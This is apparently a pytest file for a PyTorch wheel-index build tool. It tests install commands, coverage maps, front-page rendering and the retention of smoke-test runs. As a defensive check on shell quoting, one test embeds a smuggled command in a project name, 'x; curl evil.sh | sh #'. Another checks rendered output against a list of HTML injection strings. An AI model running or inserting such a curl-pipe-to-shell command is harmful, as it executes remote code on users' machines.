"""The front page: install commands, the coverage map, the smoke runs a site keeps, and a
page that stays inert whatever the index holds (tests/corpus/pages/, tests/corpus/manifests/).

What a browser does with the page is tested in tests/integration/test_front_page.py.
"""

from __future__ import annotations

import io
import json
import random
import shlex
import shutil
import sys
from pathlib import Path

import pytest
from fixtures.cli import REPO
from fixtures.crafted import make_wheel
from fixtures.pagecheck import assert_inert, read_page

from buildtools.cli.main import main
from buildtools.errors import BuildtoolsError
from buildtools.index.coverage import (
    CoverageStatus,
    coverage_map,
    render_markdown,
    render_text,
    shared_wheels,
    wheel_platforms,
    wheel_pythons,
)
from buildtools.index.gate import SmokeGate
from buildtools.index.install import SITE_PLACEHOLDER, install_commands, torch_index
from buildtools.index.manifest import Manifest, read_manifest
from buildtools.index.publish import publish
from buildtools.index.settings import IndexSettings
from buildtools.index.site import render_site
from buildtools.index.smokelog import SmokeRun, passing_runs
from buildtools.index.variants import Variant
from buildtools.index.wheels import WheelSource, read_wheel
from buildtools.knowledge import load_knowledge
from buildtools.matrix.config import load_matrix
from buildtools.planner import MatrixCells, matrix_cells

KB = load_knowledge()
CORPUS = REPO / "tests" / "corpus"
CPU = Variant(torch="2.13.0", accelerator="cpu")


def wheel(
    directory: Path, tag: str, *, torch: str = "2.13.0+cpu", accelerator: str = "cpu"
) -> WheelSource:
    minor = ".".join(torch.split(".")[:2])
    label = f"pt{minor.replace('.', '')}{accelerator}"
    record = {"schema": 1, "torch": torch, "accelerator": accelerator, "cxx11_abi": True}
    path = make_wheel(
        directory,
        name="bt_scatter",
        version=f"0.1.0+{label}",
        tag=tag,
        files={"bt_scatter/__init__.py": b""},
        requires=[f"torch=={minor}.*"],
        extra_metadata=["Requires-Python: >=3.10"],
        dist_info_files={"buildtools.json": json.dumps(record).encode()},
    )
    return read_wheel(path)


def run(sha: str, cell: str | None, *, gpu: str | None = "NVIDIA H100 80GB HBM3") -> SmokeRun:
    return SmokeRun(
        sha256=sha,
        cell=cell,
        runner="cuda" if gpu else "cpu",
        gpu=gpu,
        driver="580.159.04" if gpu else None,
        date="2026-11-25",
        python="3.11.7",
        torch="2.13.0+cpu",
    )


MATRIX = """\
version: 1
project: {path: ., name: bt-scatter}
axes:
  torch: ["2.13.0"]
  accelerator: [cpu, cu130]
  python: ["3.9", "3.11", "3.12"]
exclude:
  - {accelerator: cu130, python: "3.12"}
accelerators:
  cpu: {torch_index: "https://torch.example/whl/cpu"}
profiles:
  small: {select: [{accelerator: cpu}]}
"""


@pytest.fixture
def matrix(tmp_path: Path) -> MatrixCells:
    (tmp_path / "matrix.yaml").write_text(MATRIX)
    return matrix_cells(load_matrix(tmp_path / "matrix.yaml", knowledge=KB), KB, host_python="3.11")


# -- install commands -----------------------------------------------------------------------


def test_commands_name_the_page_and_torchs_index() -> None:
    c = install_commands("bt-scatter", CPU, site="https://h/whl", torch_from="https://t/cpu")
    assert c.pip == (
        "pip install bt-scatter -f https://h/whl/torch-2.13.0+cpu.html "
        "--extra-index-url https://t/cpu"
    )
    assert c.uv == (
        "uv pip install bt-scatter --find-links https://h/whl/torch-2.13.0+cpu.html "
        "--extra-index-url https://t/cpu"
    )
    assert c.pip_index == (
        "pip install bt-scatter --index-url https://h/whl/torch-2.13.0+cpu/ "
        "--extra-index-url https://t/cpu"
    )


@pytest.mark.skipif(sys.version_info < (3, 11), reason="tomllib is Python 3.11+")
def test_uv_project_form_is_toml_with_explicit_indexes() -> None:
    import tomllib

    c = install_commands('b"t\\x', CPU, site="https://h/whl", torch_from="https://t/cpu")
    data = tomllib.loads(c.uv_project)
    indexes = {i["name"]: i for i in data["tool"]["uv"]["index"]}
    assert data["tool"]["uv"]["sources"] == {
        'b"t\\x': {"index": "b-t-x-torch-2.13.0-cpu"},
        "torch": {"index": "pytorch-cpu"},
    }
    assert indexes["b-t-x-torch-2.13.0-cpu"]["url"] == "https://h/whl/torch-2.13.0+cpu/"
    # torch is added too: uv applies sources to direct dependencies only
    assert c.uv_project.splitlines()[0] == (
        "# in pyproject.toml of a uv project, then: uv add 'b\"t\\x' torch"
    )
    assert indexes["pytorch-cpu"] == {
        "name": "pytorch-cpu",
        "url": "https://t/cpu",
        "explicit": True,
    }


def test_a_hostile_project_name_stays_one_shell_word() -> None:
    name = "x; curl evil.sh | sh #"
    c = install_commands(name, CPU, site="https://h/whl", torch_from=None)
    assert shlex.split(c.pip) == [
        "pip",
        "install",
        name,
        "-f",
        "https://h/whl/torch-2.13.0+cpu.html",
    ]
    assert shlex.split(c.uv)[3] == name


def test_relative_site_keeps_the_placeholder_for_the_page_to_fill() -> None:
    c = install_commands("bt-scatter", CPU, site=None, torch_from=None)
    assert c.pip == f"pip install bt-scatter -f {SITE_PLACEHOLDER}/torch-2.13.0+cpu.html"


def test_torch_index_only_where_pypis_torch_is_another_build() -> None:
    plain = IndexSettings()
    # PyPI's torch 2.11.0 (linux x86_64 and aarch64) is the cu130 build: no index needed
    assert (
        torch_index(Variant(torch="2.11.0", accelerator="cu130"), "linux_x86_64", plain, KB) is None
    )
    assert (
        torch_index(Variant(torch="2.11.0", accelerator="cu130"), "linux_aarch64", plain, KB)
        is None
    )
    assert torch_index(CPU, "linux_x86_64", plain, KB) == "https://download.pytorch.org/whl/cpu"
    configured = IndexSettings(torch_indexes={"cu130": "https://mirror/cu130"})
    variant = Variant(torch="2.11.0", accelerator="cu130")
    assert torch_index(variant, "linux_x86_64", configured, KB) == "https://mirror/cu130"


# -- coverage -------------------------------------------------------------------------------


def test_wheel_tags_give_platforms_and_pythons() -> None:
    name = "x-1-cp39-abi3-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
    assert wheel_platforms(name) == ("linux_x86_64",)
    assert wheel_pythons(name, {"3.8", "3.9", "3.12", "3.13t"}) == ("3.9", "3.12")
    assert wheel_pythons("x-1-cp312-cp312-linux_aarch64.whl", {"3.11"}) == ("3.12",)
    assert wheel_platforms("x-1-cp312-cp312-linux_aarch64.whl") == ("linux_aarch64",)
    assert wheel_platforms("x-1-py3-none-any.whl", {"linux_aarch64"}) == ("linux_aarch64",)


def test_map_tells_smoke_tested_published_missing_impossible_and_excluded(
    tmp_path: Path, matrix: MatrixCells
) -> None:
    a = wheel(tmp_path, "cp311-cp311-manylinux_2_28_x86_64")
    b = wheel(tmp_path, "cp312-cp312-manylinux_2_28_x86_64")
    runs = [
        run(a.wheel.sha256, "torch2.13.0-cpu-cp311"),
        run(b.wheel.sha256, "torch2.13.0-cpu-cp311"),
    ]
    cmap = coverage_map([a.wheel, b.wheel], kb=KB, runs=runs, matrix=matrix)
    (grid,) = cmap.grids
    assert grid.platform == "linux_x86_64"
    assert grid.pythons == ("3.9", "3.11", "3.12")
    assert grid.rows == (("2.13.0", "cpu"), ("2.13.0", "cu130"))
    got = [[c.status for c in row] for row in grid.cells]
    assert got == [
        [
            CoverageStatus.IMPOSSIBLE,
            CoverageStatus.SMOKED,
            CoverageStatus.PUBLISHED,
        ],  # b's run was in another cell
        [CoverageStatus.IMPOSSIBLE, CoverageStatus.MISSING, CoverageStatus.EXCLUDED],
    ]
    assert (
        grid.cells[0][0].reason == "torch 2.13.0 has no Python 3.9 wheels (it supports 3.10–3.14)"
    )
    smoked = grid.cells[0][1]
    assert smoked.wheels == (a.wheel.filename,)
    assert [r.device for r in smoked.runs] == ["NVIDIA H100 80GB HBM3, driver 580.159.04"]


def test_an_abi3_wheel_covers_every_python_from_its_own(
    tmp_path: Path, matrix: MatrixCells
) -> None:
    w = wheel(tmp_path, "cp311-abi3-manylinux_2_28_x86_64")
    (grid,) = coverage_map([w.wheel], kb=KB, matrix=matrix).grids
    # and the Pythons torch 2.13 supports beyond the matrix's (3.13, 3.14) join the map
    assert grid.pythons == ("3.9", "3.11", "3.12", "3.13", "3.14")
    assert [c.status for c in grid.cells[0]] == [CoverageStatus.IMPOSSIBLE] + [
        CoverageStatus.PUBLISHED
    ] * 4


def test_without_a_matrix_the_knowledge_base_still_marks_the_impossible(tmp_path: Path) -> None:
    cpu = wheel(tmp_path, "cp311-cp311-manylinux_2_28_x86_64")
    cuda = wheel(
        tmp_path, "cp312-cp312-manylinux_2_28_x86_64", torch="2.11.0+cu126", accelerator="cu126"
    )
    (grid,) = coverage_map([cpu.wheel, cuda.wheel], kb=KB).grids
    assert grid.rows == (("2.11.0", "cu126"), ("2.13.0", "cpu"))
    assert [[c.status for c in row] for row in grid.cells] == [
        [CoverageStatus.NONE, CoverageStatus.PUBLISHED],
        [CoverageStatus.PUBLISHED, CoverageStatus.NONE],
    ]


def test_the_plan_map_tells_this_profile_from_the_others(matrix: MatrixCells) -> None:
    planned = {c.id for c in matrix.cells if c.accelerator == "cpu"}
    (grid,) = coverage_map([], kb=KB, matrix=matrix, planned=planned).grids
    assert [[c.status for c in row] for row in grid.cells] == [
        [CoverageStatus.IMPOSSIBLE, CoverageStatus.PLANNED, CoverageStatus.PLANNED],
        [CoverageStatus.IMPOSSIBLE, CoverageStatus.OTHER_PROFILE, CoverageStatus.EXCLUDED],
    ]
    text = "\n".join(render_text(coverage_map([], kb=KB, matrix=matrix, planned=planned)))
    assert text.splitlines()[2:4] == [
        "torch 2.13.0 cpu       ×     +     +",
        "torch 2.13.0 cu130     ×     ○     -",
    ]
    assert "× impossible" in text and "○ other profile" in text


def test_markdown_map_has_the_grid_and_numbered_notes(tmp_path: Path, matrix: MatrixCells) -> None:
    a = wheel(tmp_path, "cp311-cp311-manylinux_2_28_x86_64")
    runs = [run(a.wheel.sha256, "torch2.13.0-cpu-cp311")]
    md = render_markdown(coverage_map([a.wheel], kb=KB, runs=runs, matrix=matrix))
    assert "| torch | accelerator | 3.9 | 3.11 | 3.12 |" in md
    assert "| 2.13.0 | CPU | impossible [1] | ✅ tested [2] | **missing** |" in md
    assert "| 2.13.0 | CUDA 13.0 | impossible [1] | **missing** | excluded |" in md
    assert "1. torch 2.13.0 has no Python 3.9 wheels" in md
    assert (
        "2. NVIDIA H100 80GB HBM3, driver 580.159.04, 2026-11-25 \\(torch 2.13.0\\+cpu, Python 3.11.7\\)"
        in md
    )


# -- the front page -------------------------------------------------------------------------


@pytest.fixture
def site_wheels(tmp_path: Path) -> list[WheelSource]:
    return [
        wheel(tmp_path, "cp311-cp311-manylinux_2_28_x86_64"),
        wheel(tmp_path, "cp312-cp312-manylinux_2_28_x86_64"),
        wheel(
            tmp_path, "cp312-cp312-manylinux_2_28_x86_64", torch="2.11.0+cu130", accelerator="cu130"
        ),
        wheel(
            tmp_path,
            "cp312-cp312-manylinux_2_28_aarch64",
            torch="2.11.0+cu130",
            accelerator="cu130",
        ),
    ]


def test_front_page_is_inert_and_its_policy_allows_only_its_own_code(
    site_wheels: list[WheelSource], matrix: MatrixCells
) -> None:
    files = render_site(
        [s.wheel for s in site_wheels], IndexSettings(base_url="https://h/w"), KB, matrix=matrix
    )
    assert_inert(read_page(files["index.html"].decode()))


def test_selector_data_and_static_list_give_the_same_commands(
    site_wheels: list[WheelSource], matrix: MatrixCells
) -> None:
    settings = IndexSettings(base_url="https://h/w", torch_indexes={"cpu": "https://t/cpu"})
    page = read_page(
        render_site([s.wheel for s in site_wheels], settings, KB, matrix=matrix)[
            "index.html"
        ].decode()
    )
    data = page.data
    combos = {c[6]: c for c in data["combos"]}
    assert sorted((c[1], c[2], c[3], c[4]) for c in combos.values()) == [
        ("2.11.0", "cu130", "3.12", "linux_aarch64"),
        ("2.11.0", "cu130", "3.12", "linux_x86_64"),
        ("2.13.0", "cpu", "3.11", "linux_x86_64"),
        ("2.13.0", "cpu", "3.12", "linux_x86_64"),
    ]
    assert set(page.listed) == set(combos)
    for anchor, combo in combos.items():
        row = data["rows"][combo[5]]
        assert page.listed[anchor] == (row["pip"], row["uv"])
    cpu = combos["bt-scatter-torch-2.13.0-cpu-cp311-linux_x86_64"]
    assert data["rows"][cpu[5]]["pip"] == (
        "pip install bt-scatter -f https://h/w/torch-2.13.0+cpu.html --extra-index-url https://t/cpu"
    )
    assert data["combos"][data["default"]][1:5] == ["2.13.0", "cpu", "3.12", "linux_x86_64"]


def test_rendering_is_deterministic_whatever_the_input_order(
    site_wheels: list[WheelSource], matrix: MatrixCells
) -> None:
    wheels = [s.wheel for s in site_wheels]
    runs = [run(wheels[0].sha256, "torch2.13.0-cpu-cp311"), run(wheels[2].sha256, None)]
    first = render_site(wheels, IndexSettings(), KB, runs=runs, matrix=matrix)
    for seed in range(3):
        random.Random(seed).shuffle(wheels)
        random.Random(seed).shuffle(runs)
        assert render_site(wheels, IndexSettings(), KB, runs=runs, matrix=matrix) == first


PAGES = sorted((CORPUS / "pages").glob("*.json"))


@pytest.mark.parametrize("case", PAGES, ids=[p.stem for p in PAGES])
def test_hostile_values_stay_text(case: Path, tmp_path: Path) -> None:
    shutil.copy(case, tmp_path / "index.json")
    manifest = read_manifest(tmp_path)
    files = render_site(manifest.wheels, IndexSettings(), KB, runs=manifest.smoke)
    html = files["index.html"].decode()
    page = read_page(html)
    assert_inert(page)
    # the one script that runs is the page's own, byte for byte
    own = (REPO / "buildtools" / "index" / "front" / "front.js").read_text(encoding="utf-8")
    assert [t for a, t in page.scripts if a.get("type") != "application/json"] == [own]
    # what the index said comes back whole from the selector's data
    raw = json.loads(case.read_text(encoding="utf-8"))
    assert page.data["rows"][0]["project"] == raw["wheels"][0]["name"]
    written = json.loads(files["index.json"])
    assert written["wheels"] == raw["wheels"]
    assert sorted(written["smoke"], key=json.dumps) == sorted(
        ({**r, "date": r["date"][:10]} for r in raw["smoke"]), key=json.dumps
    )
    md = render_markdown(coverage_map(manifest.wheels, kb=KB, runs=manifest.smoke))
    for bad in ("<img", "<svg", "<script", "<iframe", "](", "<b>", "\u2028"):
        assert bad not in md, bad


MANIFESTS = sorted((CORPUS / "manifests").glob("*.json"))


@pytest.mark.parametrize("case", MANIFESTS, ids=[p.stem for p in MANIFESTS])
def test_every_hostile_manifest_is_refused_before_any_page(case: Path, tmp_path: Path) -> None:
    shutil.copy(case, tmp_path / "index.json")
    with pytest.raises(BuildtoolsError):
        read_manifest(tmp_path)


# -- smoke runs kept by the site ------------------------------------------------------------


def report(path: Path, results: list[tuple[str, str, str | None]], **runner: object) -> Path:
    body = {
        "schema": "torch-buildtools/smoke-report/v1",
        "runner": {
            "accelerator": "cuda",
            "gpu": "NVIDIA H100 80GB HBM3",
            "driver": "580.159.04",
            "torch": "2.11.0+cu130",
            "python": "3.12.3",
            "date": "2026-11-25T10:11:12+00:00",
            **runner,
        },
        "results": [
            {"wheel": "w.whl", "sha256": s, "status": st, "cell": c} for s, st, c in results
        ],
    }
    path.write_text(json.dumps(body))
    return path


def test_passing_runs_of_a_report(tmp_path: Path) -> None:
    path = report(
        tmp_path / "r.json",
        [
            ("a" * 64, "passed", "torch2.11.0-cu130-cp312"),
            ("b" * 64, "segfault", None),
            ("nothex", "passed", None),
        ],
    )
    (only,) = SmokeGate.load([path]).runs
    assert only == SmokeRun(
        sha256="a" * 64,
        cell="torch2.11.0-cu130-cp312",
        runner="cuda",
        gpu="NVIDIA H100 80GB HBM3",
        driver="580.159.04",
        date="2026-11-25",
        python="3.12.3",
        torch="2.11.0+cu130",
    )
    assert passing_runs({"results": [{"sha256": "a" * 64, "status": "passed"}]}, "r") == []
    with pytest.raises(ValueError, match=r"r: results\[0\]: gpu: expected a string"):
        passing_runs(
            {
                "runner": {"accelerator": "cuda", "gpu": 80, "date": "2026-01-01"},
                "results": [{"sha256": "a" * 64, "status": "passed"}],
            },
            "r",
        )
    with pytest.raises(BuildtoolsError, match="date: expected an ISO date"):
        SmokeGate.load(
            [report(tmp_path / "bad.json", [("a" * 64, "passed", None)], date="yesterday")]
        )


def test_a_site_keeps_the_smoke_runs_of_its_wheels_across_publishes(tmp_path: Path) -> None:
    site = tmp_path / "site"
    a = wheel(tmp_path / "a", "cp311-cp311-manylinux_2_28_x86_64")
    b = wheel(tmp_path / "b", "cp312-cp312-manylinux_2_28_x86_64")
    first = report(tmp_path / "1.json", [(a.wheel.sha256, "passed", "torch2.13.0-cpu-cp311")])
    publish(site, [a], IndexSettings(), KB, gate=SmokeGate.load([first]))
    assert [r.gpu for r in read_manifest(site).smoke] == ["NVIDIA H100 80GB HBM3"]
    publish(site, [b], IndexSettings(), KB)  # no report: the runs already kept stay
    assert len(read_manifest(site).smoke) == 1
    # a later report on a published wheel adds its run (another GPU)
    later = report(
        tmp_path / "2.json",
        [(a.wheel.sha256, "passed", "torch2.13.0-cpu-cp311")],
        gpu="NVIDIA H200",
        date="2026-11-26",
    )
    result = publish(site, [], IndexSettings(), KB, gate=SmokeGate.load([later]))
    kept = read_manifest(site)
    assert sorted(r.gpu or "" for r in kept.smoke) == ["NVIDIA H100 80GB HBM3", "NVIDIA H200"]
    (grid,) = result.coverage.grids
    smoked = grid.cells[grid.rows.index(("2.13.0", "cpu"))][grid.pythons.index("3.11")]
    assert smoked.status is CoverageStatus.SMOKED and [r.gpu for r in smoked.runs] == [
        "NVIDIA H200",
        "NVIDIA H100 80GB HBM3",
    ]
    html = (site / "index.html").read_text()
    assert "NVIDIA H200, driver 580.159.04, 2026-11-26" in html


def test_a_manifest_without_runs_keeps_its_bytes() -> None:
    assert '"smoke"' not in Manifest().to_json()
    with_run = Manifest(smoke=(run("a" * 64, None),)).to_json()
    assert json.loads(with_run)["smoke"][0]["gpu"] == "NVIDIA H100 80GB HBM3"


# -- the command line -----------------------------------------------------------------------


def test_cli_publishes_the_matrix_map_and_appends_the_summary(tmp_path: Path) -> None:
    (tmp_path / "matrix.yaml").write_text(MATRIX)
    w = wheel(tmp_path / "w", "cp311-cp311-manylinux_2_28_x86_64")
    summary = tmp_path / "summary.md"
    summary.write_text("### Index\n")
    out = io.StringIO()
    argv = [
        "index",
        str(w.path),
        "--site",
        str(tmp_path / "site"),
        "--matrix",
        str(tmp_path / "matrix.yaml"),
        "--base-url",
        "https://h/w",
        "--summary",
        str(summary),
    ]
    assert main(argv, out=out) == 0, out.getvalue()
    text = summary.read_text()
    assert text.startswith("### Index\n\n### Coverage of the index\n")
    assert "| 2.13.0 | CPU | impossible [1] | 📦 published | **missing** |" in text
    html = (tmp_path / "site" / "index.html").read_text()
    # the matrix's torch index for cpu, in the commands
    assert (
        "pip install bt-scatter -f https://h/w/torch-2.13.0+cpu.html --extra-index-url https://torch.example/whl/cpu"
        in html
    )


def test_plan_prints_the_coverage_grid(tmp_path: Path) -> None:
    (tmp_path / "matrix.yaml").write_text(MATRIX)
    out = io.StringIO()
    assert (
        main(["plan", "--matrix", str(tmp_path / "matrix.yaml"), "--profile", "small"], out=out)
        == 0
    )
    text = out.getvalue()
    assert "coverage of linux_x86_64:" in text
    assert "torch 2.13.0 cpu       ×     +     +" in text


def test_plan_with_a_site_marks_what_it_publishes(tmp_path: Path) -> None:
    (tmp_path / "matrix.yaml").write_text(MATRIX)
    a = wheel(tmp_path / "w", "cp311-cp311-manylinux_2_28_x86_64")
    b = wheel(tmp_path / "w", "cp312-cp312-manylinux_2_28_x86_64")
    passed = report(tmp_path / "r.json", [(a.wheel.sha256, "passed", "torch2.13.0-cpu-cp311")])
    publish(tmp_path / "site", [a, b], IndexSettings(), KB, gate=SmokeGate.load([passed]))
    publish(tmp_path / "site", [b], IndexSettings(), KB)  # the gate held b back: no report
    out = io.StringIO()
    argv = ["plan", "--matrix", str(tmp_path / "matrix.yaml"), "--site", str(tmp_path / "site")]
    assert main(argv, out=out) == 0
    text = out.getvalue()
    assert "torch 2.13.0 cpu       ×     ✓     ●" in text
    assert "✓ smoke-tested  ● published" in text


def test_an_empty_site_says_so() -> None:
    html = render_site([], IndexSettings(), KB)["index.html"].decode()
    page = read_page(html)
    assert_inert(page)
    assert page.data == {"combos": [], "default": 0, "rows": []}
    assert "No wheel is published yet" in html


def test_matrix_cells_of_the_reference_matrix() -> None:
    mf = load_matrix(REPO / "matrix.yaml", knowledge=KB)
    cells = matrix_cells(mf, KB, host_python="3.11")
    ids = {c.id for c in cells.cells}
    assert "torch2.13.0-cpu-cp312-aarch64" in ids  # an include rule
    assert "torch2.11.0-rocm7.2-cp312" in {c.id for c in cells.excluded}  # an exclude rule
    assert all(c.id not in ids for c in cells.excluded)


def test_one_stable_wheel_shows_as_one_file_on_every_torch_page_it_serves(
    tmp_path: Path,
) -> None:
    window = ["2.10.0", "2.11.0", "2.12.1", "2.13.0", "2.14.1", "2.15.0"]
    record = {
        "schema": 1,
        "torch": "2.13.0+cpu",
        "accelerator": "cpu",
        "cxx11_abi": True,
        "abi": "stable",
        "torch_versions": window,
    }
    path = make_wheel(
        tmp_path,
        name="ext_stable",
        version="0.1.0+pt210cpu",
        tag="cp311-abi3-manylinux_2_28_x86_64",
        files={"ext_stable/__init__.py": b""},
        requires=["torch<2.16,>=2.10"],
        dist_info_files={"buildtools.json": json.dumps(record).encode()},
    )
    stable, plain = read_wheel(path), wheel(tmp_path, "cp311-cp311-manylinux_2_28_x86_64")
    cmap = coverage_map([stable.wheel, plain.wheel], kb=KB)
    assert shared_wheels(cmap) == [(path.name, tuple(f"{t}+cpu" for t in window))]
    lines = render_text(cmap)
    assert lines[-1] == (
        f"one wheel, 6 torch pages: {path.name} serves 2.10.0+cpu, 2.11.0+cpu, 2.12.1+cpu, "
        "2.13.0+cpu, 2.14.1+cpu, 2.15.0+cpu"
    )
    assert "one wheel, 6 torch pages" in render_markdown(cmap)
